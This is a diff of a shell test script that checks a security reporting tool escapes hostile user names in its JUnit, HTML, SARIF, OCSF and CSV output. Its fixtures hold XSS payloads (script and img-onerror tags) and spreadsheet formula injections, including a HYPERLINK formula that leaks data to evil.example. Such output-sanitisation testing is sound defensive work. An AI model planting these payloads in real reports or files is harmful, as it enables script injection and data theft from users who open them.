@@ -234,10 +234,10 @@ done
 for f in junit html; do
 	check "hostile users $f: no markup injected" sh -c "! grep -Eq '<(script|img)|]]>|onerror=alert\(1\)>' '$T/hu.$f'"
 	check "hostile users $f: ASCII only, no control byte" sh -c "! LC_ALL=C tr -d '\\n' <'$T/hu.$f' | LC_ALL=C grep -q '[^ -~]'"
-	check "hostile users $f: names shown as text" grep -qF '&lt;script&gt;alert(document.domain)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;' "$T/hu.$f"
+	check "hostile users $f: names shown as text" grep -qF '&lt;script&gt;alert(origin)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;' "$T/hu.$f"
 done
 check "hostile users junit: 10 user findings in one failure" test "$(xmllint --xpath 'string(//testcase[@name="user-console-without-mfa"]/failure/@message)' "$T/hu.junit" | cut -d' ' -f1)" = 10
-check "hostile users sarif: names kept exactly as data" test "$(jq -r '[.runs[0].results[] | select(.ruleId == "user-console-without-mfa") | .properties.user][0:2] | join("|")' "$T/hu.sarif")" = '=HYPERLINK("http://evil.example/?leak","click me")|<script>alert(document.domain)</script><img src=x onerror=alert(1)>'
+check "hostile users sarif: names kept exactly as data" test "$(jq -r '[.runs[0].results[] | select(.ruleId == "user-console-without-mfa") | .properties.user][0:2] | join("|")' "$T/hu.sarif")" = '=HYPERLINK("http://evil.example/?leak","click me")|<script>alert(origin)</script><img src=x onerror=alert(1)>'
 check "hostile users sarif: invalid UTF-8 as U+FFFD" test "$(jq -r '[.runs[0].results[] | .properties.user | select(startswith("bad"))][0]' "$T/hu.sarif")" = "bad$(printf '\357\277\275\357\277\275')utf8$(printf '\357\277\275\357\277\275')"
 check "hostile users ocsf: one line per finding, names as data" test "$(jq -s -r '[.[] | .resources[0].name | select(. == "-2+3" or . == "@SUM(A1:A9)")] | length' "$T/hu.ocsf")" = 2
 "$PY" - "$T/hu.csv" <<'PYEOF' >"$T/hucells" 2>&1
